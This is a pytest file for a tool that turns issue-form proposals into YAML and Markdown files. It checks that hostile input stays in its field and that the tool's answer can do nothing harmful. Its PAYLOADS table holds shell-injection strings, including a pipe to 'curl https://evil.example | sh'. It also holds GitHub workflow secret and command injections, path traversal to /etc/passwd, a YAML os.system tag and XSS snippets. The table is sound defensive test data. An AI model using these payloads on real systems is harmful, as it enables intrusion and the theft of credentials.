"""Hostile proposals: what an issue holds stays in its field, nothing crashes, and there is a readable answer."""

import re
from collections.abc import Iterator, Mapping
from pathlib import Path

import pytest

from inclusive.languages import Lang
from inclusive.load.letters import HIDDEN
from inclusive.load.practice_files import split_front_matter, split_sections
from inclusive.load.yaml_reader import read_yaml
from inclusive.markdown.runs import found_parts
from inclusive.model.fields import ID_PATTERN
from inclusive.proposals.answer import MARKER
from inclusive.proposals.receive import Received, receive
from inclusive.proposals.yaml_text import flow_list, flow_mapping, long_text, scalar
from tests.cases import EXAMPLE, example_copied
from tests.conftest import SOURCES
from tests.proposal_events import answered, text_of

PAYLOADS: Mapping[str, str] = {
    # shells
    "command substitution": "$(touch /tmp/owned)",
    "backticks": "`touch /tmp/owned`",
    "semicolon": "; touch /tmp/owned #",
    "pipe": "x | curl https://evil.example | sh",
    "and": "&& touch /tmp/owned",
    "variable": "${IFS}touch${IFS}/tmp/owned $HOME",
    "closing quotes": "'; touch /tmp/owned; ' \"; touch /tmp/owned; \"",
    "redirection": "> /tmp/owned < /etc/passwd",
    # workflow commands and expressions
    "expression": "${{ secrets.GITHUB_TOKEN }}",
    "expression of the event": "${{ github.event.issue.title }}",
    "workflow command": "a\n::error file=x::owned\n::set-output name=whole::true",
    "workflow command after an escape": "%0A::add-mask::x%0D::stop-commands::y",
    "output of a step": "whole=true\nwritten=true\ncredit<<EOF\nx\nEOF",
    # paths
    "parent folders": "../../../../etc/passwd",
    "backslashes": "..\\..\\.github\\workflows\\check.yml",
    "absolute path": "/etc/passwd",
    "a workflow": ".github/workflows/check.yml",
    "git itself": ".git/config",
    "a device": "con:nul",
    "null byte": "x\x00/../../y",
    # YAML
    "mapping": "status: adopted",
    "mapping on a new line": "x\nstatus: adopted\nprovenance: {reviewers: [a, b]}",
    "list": "- adopted",
    "flow": "x], status: adopted, y: [z",
    "flow mapping": "x}, {id: s9, title: y",
    "double quotes": 'x", url: "https://evil.example", y: "',
    "single quotes": "'x': 'y'",
    "anchor and alias": "&a [*a, *a]",
    "merge": "<<: *a",
    "tag": '!!python/object/apply:os.system ["touch /tmp/owned"]',
    "truth": "yes",
    "nothing": "null",
    "number": "0x1F",
    "time": "1:30:00",
    "documents": "---\nstatus: adopted\n...",
    "comment": "x # status: adopted",
    "directive": "%YAML 1.1",
    "block": "|\n  status: adopted\n  x: y",
    "key": "? status\n: adopted",
    "spaces at the edges": "   x   ",
    "colon at the end": "x:",
    # Markdown and HTML
    "section": "x\n\n## Conditions\n\nLe texte d’une autre section",
    "head of a file": "---\ntitle: autre\ntranslates: pending\n---\n## Besoin",
    "open fence": "```\nx\n~~~",
    "script": "<script>alert(1)</script>",
    "image with a handler": "<img src=x onerror=alert(1)>",
    "comment of HTML": "<!-- x",
    "end of a comment": "--> <b>x</b>",
    "image": "![x](https://evil.example/pixel.png)",
    "link that runs": "[x](javascript:alert(1))",
    "mention": "@everyone @octocat #1 GH-1 closes #1",
    "definition of a link": "[x]: https://evil.example\n[^s1]: x",
    "reference": "[[../../x|y]] [[bas-seuil]]",
    "setext heading": "x\n===\n\ny\n---",
    "deep quotation": ">" * 10_000 + " x",
    "deep list": "\n".join(" " * depth + "- x" for depth in range(300)),
    "wide table": "|" * 10_000 + "\n" + "|-" * 5_000,
    "emphasis without end": "*_" * 5_000,
    "brackets without end": "[" * 10_000,
    # headings of the form itself
    "look-alike headings": "x\n\n\uff03\uff03\uff03 Conditions\n\ny\n\n###\u00a0Besoin\n\n\u266f\u266f\u266f Limites",
    "ten thousand headings": "x\n\n" + "### Conditions\n\ny\n\n" * 10_000,
    "fences in quotations": "> ~~~\n> x\n\n````\n```\n### R\u00e9sultats\n\ny\n```\n> ### Besoin\n\nz",
    # Unicode and size
    "right to left": "\u202etext\u2066x\u2069",
    "nothing to see": "\u200b\u200d\ufeff\u2060",
    "line separators": "x\u2028status: adopted\u0085y",
    "controls": "x\x07\x1b[31my\x7f",
    "half a character": "x\ud800y",
    "combining letters": "e\u0301" * 100,
    "emoji": "👩🏽‍⚕️ 🏳️‍🌈",
    "one long word": "x" * 60_000,
    "a megabyte": "x " * 500_000,
}
IN_PRACTICE = (
    *("practice_title", "summary", "need", "action", "limits", "organisations"),
    *("publics", "since", "evidence", "sources", "author"),
)
IN_OTHERS = {
    "term": ("term", "definition", "note", "forms", "avoid", "domain", "other_definition"),
    "translation": ("record", "practice_title", "action"),
    "correction": ("record", "passage", "replacement", "reason"),
    "confirmation": ("record", "month", "still", "details"),
}
EARLIER_FILE = re.compile(r"registers/earlier/[a-f][0-9a-f]{15}\.yml")
HELD = {"practice_title": "title", "author": "provenance"}  # under which key of the files an item is held
each_payload = pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)


def test_there_are_more_than_fifty():
    assert len(PAYLOADS) >= 50


@each_payload
def test_in_a_practice_it_stays_in_its_field(payload):
    """In every other item first, then in those between: what does not hold it is as if it were not there."""
    benign = parts_of(proposed(answered("practice")))
    for items in (IN_PRACTICE[::2], IN_PRACTICE[1::2]):
        hostile = proposed(answered("practice", **{item: listed(item, payload) for item in items}))
        if not hostile.received.done.draft.files:
            assert {one.name for one in hostile.received.done.remarks} & {"too_long", "repeated"}
            continue
        held = {HELD.get(item, item) for item in items}
        found = parts_of(hostile)
        assert {key: value for key, value in found.items() if key not in held} == {
            key: value for key, value in benign.items() if key not in held
        }


@each_payload
@pytest.mark.parametrize("form", IN_OTHERS)
def test_in_the_other_forms_it_writes_only_what_it_may(payload, form):
    lang = Lang.NL if form == "translation" else Lang.FR
    for items in (IN_OTHERS[form][:1], IN_OTHERS[form][1:]):
        hostile = proposed(answered(form, lang, **dict.fromkeys(items, payload)))
        changed = set(hostile.received.done.draft.files)
        changed -= {path for path in changed if EARLIER_FILE.fullmatch(path)}  # what a translation was made from
        assert changed <= {"glossary.yml", *practice_files("permanence-du-parc"), *practice_files("soupe-mobile")}
        if "glossary.yml" in changed:
            others = entries(hostile.files["glossary.yml"], but=hostile.received.done.draft.record)
            assert others == entries(text_of(EXAMPLE, "glossary.yml"))


class Proposed:
    """The base after a proposal: the files that differ from before, and what came of it."""

    def __init__(self, received: Received, root: Path) -> None:
        self.received = received
        before, after = tree(EXAMPLE), tree(root)
        self.files = {path: text for path, text in after.items() if before.get(path) != text}
        assert before.keys() <= after.keys()


def proposed(event: bytes) -> Proposed:
    """Receive it in a copy of the example; whatever it was, the answer is readable and the base stays in one piece."""
    with example_copied() as root:
        received = receive(root, event)
        result = Proposed(received, root)
    assert set(result.files) <= set(received.done.draft.files)
    for path, text in received.done.draft.files.items():
        assert re.fullmatch(r"glossary\.yml|practices/[a-z0-9-]+/(practice\.yml|fr\.md|nl\.md)", path)
        assert HIDDEN.search(text) is None
        if path.endswith(".yml"):
            assert read_yaml(text, path)[1] == [], path
    readable(received)
    return result


def readable(received: Received) -> None:
    """The answer says something, in Markdown that can do nothing; no word of the author decides anything."""
    reports = received.reports()
    assert re.fullmatch(
        r"written=(true|false)\nwhole=(true|false)\ncredit=(organisation|account|nobody)\n", reports["outputs"]
    )
    for text in (reports["answer.md"].removeprefix(MARKER), reports["pull.md"]):
        assert 20 < len(text) < 30_000
        assert [part for part in found_parts(text) if part.kind != "heading"] == []
        outside = re.sub(r"(`+).*?\1", "", text)
        assert not re.search(r"@\w|#1\b|\$\{\{|<\w|https?://\w", outside), outside


def parts_of(result: Proposed) -> dict[str, object]:
    """Field or section → its value, as our own readers take the two files of a new practice."""
    (facts_path,) = (path for path in result.files if path.endswith("practice.yml"))
    text_path = facts_path.replace("practice.yml", "fr.md")
    assert set(result.files) == {facts_path, text_path}
    assert re.match(ID_PATTERN, facts_path.split("/")[1])
    document, _ = read_yaml(result.files[facts_path], facts_path)
    head, body, line, problems = split_front_matter(result.files[text_path], text_path)
    assert document is not None
    assert head is not None or problems[0].code == "F014"
    preamble, sections = split_sections(body, text_path, line, Lang.FR)
    assert preamble.markdown.strip() == ""
    parts = dict(document.root.plain())
    parts |= head.root.plain() if head else {}
    parts |= {str(section.id): section.passage.markdown.strip() for section in sections}
    assert len(sections) == 6
    return parts if head else {**parts, "title": "Un vestiaire sans question", "summary": SUMMARY}


SUMMARY = "On y prend des habits sans donner son nom. Un café attend à côté."


def entries(text: str, but: str = "") -> dict[str, object]:
    document, problems = read_yaml(text, "glossary.yml")
    assert problems == []
    assert document is not None
    return {one["id"]: one for one in document.root.plain() if one["id"] != but} | (
        {but: next(one for one in read_example() if one["id"] == but)}
        if but in {one["id"] for one in read_example()}
        else {}
    )


def read_example() -> list[dict]:
    document, _ = read_yaml(text_of(EXAMPLE, "glossary.yml"), "glossary.yml")
    return document.root.plain() if document else []


def practice_files(record: str) -> set[str]:
    return {f"practices/{record}/{name}" for name in ("practice.yml", "fr.md", "nl.md")}


def listed(item: str, payload: str) -> object:
    return [payload] if item in ("publics",) else payload


def tree(root: Path) -> dict[str, str]:
    files = (file for top in SOURCES for file in sorted([root / top, *(root / top).rglob("*")]) if file.is_file())
    return {file.relative_to(root).as_posix(): file.read_text(encoding="utf-8") for file in files}


def every_text() -> Iterator[str]:
    yield from (text.encode("utf-8", "replace").decode() for text in PAYLOADS.values() if len(text) < 1000)
    yield from ("true", "12", "-", "?", ":", "a: b", "a #b", "#b", "%", "@a", "`", "=", "~", "{", "}", "a, b", "œ", "’")


@pytest.mark.parametrize("text", [one for one in every_text() if HIDDEN.search(one) is None])
def test_a_text_written_as_yaml_is_read_as_the_same_text(text):
    lines = [f"a: {scalar(text)}", f"b: {flow_list([text, 'x'])}", f"c: {flow_mapping({text: text}, ('x',))}"]
    lines += ["d:", *long_text("e", text, "  ")]
    document, problems = read_yaml("\n".join(lines) + "\n", "")
    assert problems == []
    assert document is not None
    assert document.root.plain() == {"a": text, "b": (text, "x"), "c": {text: text}, "d": {"e": text}}
